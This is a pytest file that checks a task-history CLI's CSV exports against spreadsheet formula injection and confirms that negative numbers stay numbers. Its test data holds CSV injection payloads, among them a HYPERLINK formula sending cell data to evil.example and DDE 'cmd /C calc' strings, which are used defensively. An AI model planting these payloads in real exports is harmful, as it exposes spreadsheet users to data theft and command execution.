"""No CSV of ours has a formula in it, whatever tasks, workers and errors are named; numbers stay numbers."""

import csv
import re
import string
from collections.abc import Iterator
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from typer.main import get_command
from typer.testing import CliRunner

from celeriac.app import Celeriac
from celeriac.cli.root import app
from celeriac.cli.session import Session
from celeriac.model.events import Revoked
from celeriac.transport.memory import MemoryBroker
from tests.component.cli.kit import is_harmless
from tests.event_logs import failed, heartbeat, received, seal, succeeded
from tests.live import IS_LONG
from tests.warehouses import MIDNIGHT, attempt, publish, rollup, task

SRC = Path(__file__).parents[3] / "src" / "celeriac"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: Formulas, and texts that would be in a row of their own if their ends of lines were not quoted.
FORMULAS = (
    *(f"{start}1+1" for start in STARTS),
    *("\t=1+1", "\r=1+1", "\n@SUM(1)", "\r\n+1+1"),
    *(f"x{end}{start}1+1" for end in ("\r", "\n", "\r\n", ",", '",') for start in STARTS),
    *("=HYPERLINK(\"http://evil.example/\"&A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
)  # fmt: skip
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")
#: A few of them stand for all in the gate.
TRIED = FORMULAS if IS_LONG else FORMULAS[::3]


def cells_of(text: str) -> list[list[str]]:
    """Return the rows of a sheet as spreadsheets read them: a line ends by CR, LF or both."""
    rows: list[list[str]] = [[""]]
    is_quoted = False
    for char in text.replace("\r\n", "\n"):
        if char == '"':
            is_quoted = not is_quoted
        elif is_quoted or char not in ",\r\n":
            rows[-1][-1] += char
        elif char == ",":
            rows[-1].append("")
        else:
            rows.append([""])
    return rows[:-1] if rows[-1] == [""] else rows


def check(text: str, *, rows: int | None = None) -> None:
    """Look at each cell of a sheet: none is a formula, and all rows have the same columns."""
    sheet = cells_of(text)
    assert {len(row) for row in sheet} == {len(sheet[0])}, text
    assert rows is None or len(sheet) == rows + 1, text
    formulas = [
        cell for row in sheet for cell in row if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert formulas == []


def test_the_check_finds_a_formula() -> None:
    for text in ("a,b\n=1,2\n", "a,b\nx\r=1,2\n", 'a,b\n1,"@x"\n'):
        with pytest.raises(AssertionError):
            check(text)
    check('a,b\n\'=1,-2.5\n"x\r=1",3\n', rows=2)


def run(*arguments: str, warehouse: Path | None = None) -> str:
    def assemble(**_: object) -> Celeriac:
        return Celeriac(MemoryBroker(), environ={}, warehouse_url=str(warehouse))

    result = CliRunner().invoke(app, arguments, obj=Session(assemble=assemble))
    assert result.exit_code == 0, result.output
    # Its own reading of the output would change the ends of lines.
    return result.stdout_bytes.decode()


# -- every command that writes CSV

#: Arguments of each; SELECT asks for all texts.
ARGUMENTS: dict[str, tuple[str, ...]] = {
    "history tables": (),
    "history top": (),
    "history latency": ("--per", "task"),
    "history workflow": ("root",),
    "history workers": (),
    "history compare": ("1000d..1d", "1000d..now"),
    "history sql": ("SELECT * EXCLUDE (course, history) FROM tasks",),
}
#: Those that write it to a file, or in one of several formats.
OTHERS = {"history export", "log export"}


def commands(command: Any, path: str = "") -> Iterator[tuple[str, Any]]:
    for name, below in command.commands.items():
        if hasattr(below, "commands"):
            yield from commands(below, f"{path}{name} ")
        else:
            yield f"{path}{name}", below


COMMANDS = dict(commands(get_command(app)))


def test_every_command_that_writes_csv_is_tried_here() -> None:
    with_option = {
        path
        for path, each in COMMANDS.items()
        if path.startswith("history ") and any("-o" in option.opts for option in each.params)
    }
    with_format = {path for path, each in COMMANDS.items() if "CSV" in (each.help or "")}

    # A task has no rows. Other commands with -o write by the same function.
    assert with_option - {"history task"} == {*ARGUMENTS}
    assert with_format - with_option == OTHERS


def test_every_module_that_writes_csv_is_tried_here() -> None:
    writers = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if re.search(r"csv\.writer|csv\.DictWriter|csv\.write_csv|text/csv", path.read_text())
    }

    assert writers == {"cli/csv_output.py", "history/export.py", "store/export.py"}


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Tables in which every text that a peer wrote is a formula."""
    root = tmp_path_factory.mktemp("warehouse")
    tasks = [
        {**task(f"{text}{number}", name=text, worker=text, queue=text), "root_id": "root"}
        for number, text in enumerate(TRIED)
    ]
    hours = [rollup(MIDNIGHT, text, runs=[1.0, 2.0], worker=text, queue=text) for text in TRIED]
    publish(
        root,
        {
            "tasks": [task("root", name="=1+1"), *tasks],
            "attempts": [attempt("root", ended_at=MIDNIGHT + 3, worker=text) for text in TRIED],
            "failures": [{"uuid": "root", "raised_at": MIDNIGHT + 3, "exception": text} for text in TRIED],
            "rollups_hour": hours,
            "rollups_minute": hours,
            "workers": [
                {"worker": text, "pid": -7, "begin_at": MIDNIGHT, "end_at": MIDNIGHT + 90, "ending": "lost"}
                for text in TRIED
            ],
        },
    )
    return root


@pytest.mark.parametrize("path", ARGUMENTS)
def test_no_cell_that_a_command_writes_is_a_formula(warehouse: Path, path: str) -> None:
    text = run(*path.split(), *ARGUMENTS[path], "-o", "csv", warehouse=warehouse)

    check(text)
    assert is_harmless(text)
    assert path in ("history tables", "history compare") or "'=1+1" in text


@pytest.mark.parametrize("table", ["tasks", "attempts", "failures", "rollups_hour", "workers"])
def test_no_cell_of_an_exported_table_is_a_formula(warehouse: Path, tmp_path: Path, table: str) -> None:
    target = tmp_path / "out.csv"

    run("history", "export", table, "--to", str(target), warehouse=warehouse)

    text = target.read_bytes().decode()
    check(text, rows=len(TRIED) + (table == "tasks"))
    # A text is as it was but for the apostrophe.
    texts = {cell.removeprefix("'") for row in csv.reader(StringIO(text, newline="")) for cell in row}
    assert {*TRIED} <= texts


def test_no_cell_of_an_exported_log_is_a_formula(tmp_path: Path) -> None:
    events = [
        event
        for text in TRIED
        for event in (
            received(text, 1.0, name=text, args=text, kwargs=text, eta=text, root_id=text, parent_id=text),
            succeeded(text, 2.0, result=text),
            failed(text, 3.0, exception=text, traceback=text),
            heartbeat(4.0, hostname=text, sw_ident=text, sw_ver=text, sw_sys=text),
        )
    ]
    seal(tmp_path / "log", events)

    text = run("log", "export", str(tmp_path / "log"), "--format", "csv")

    check(text, rows=len(events))
    texts = {cell.removeprefix("'") for row in csv.reader(StringIO(text, newline="")) for cell in row}
    assert {*TRIED} <= texts


# -- numbers


def test_negative_numbers_of_a_log_stay_numbers(tmp_path: Path) -> None:
    alive = heartbeat(4.0, active=-3, loadavg=(-0.5, 1.0, -2.0))
    revoked = Revoked(
        timestamp=alive.timestamp, clock=1, hostname="w@lab", uuid="t1", terminated=True, signum=-9
    )
    seal(tmp_path / "log", [alive, revoked])

    text = run("log", "export", str(tmp_path / "log"), "--format", "csv")

    beat, end = csv.DictReader(StringIO(text, newline=""))
    assert (beat["active"], beat["loadavg"]) == ("-3", "[-0.5, 1.0, -2.0]")
    assert end["signum"] == "-9"


def test_negative_numbers_of_every_type_stay_numbers(warehouse: Path) -> None:
    columns = {
        "whole": "-1",
        "real": "-2.5::DOUBLE",
        "exact": "-1.50",
        "sum": "sum(-0.25)",
        "huge": "-170141183460469231731687303715884105::HUGEINT",
        "text": "'-5'",
    }
    select = ", ".join(f"{value} AS {name}" for name, value in columns.items())

    (row,) = csv.DictReader(
        StringIO(run("history", "sql", f"SELECT {select}", "-o", "csv", warehouse=warehouse))
    )

    assert row == {
        "whole": "-1",
        "real": "-2.5",
        "exact": "-1.50",
        "sum": "-0.25",
        "huge": "-170141183460469231731687303715884105",
        "text": "'-5",
    }


def test_negative_numbers_of_a_table_stay_numbers(warehouse: Path, tmp_path: Path) -> None:
    run("history", "export", "workers", "--to", str(tmp_path / "out.csv"), warehouse=warehouse)

    with (tmp_path / "out.csv").open(newline="") as file:
        assert {row["pid"] for row in csv.DictReader(file)} == {"-7"}


def test_names_of_columns_are_no_formulas(warehouse: Path) -> None:
    names = ", ".join(f'1 AS "{name}"' for name in ("=1+1", "@x", "-1", f"+{string.ascii_letters}"))

    check(run("history", "sql", f"SELECT {names}", "-o", "csv", warehouse=warehouse), rows=1)
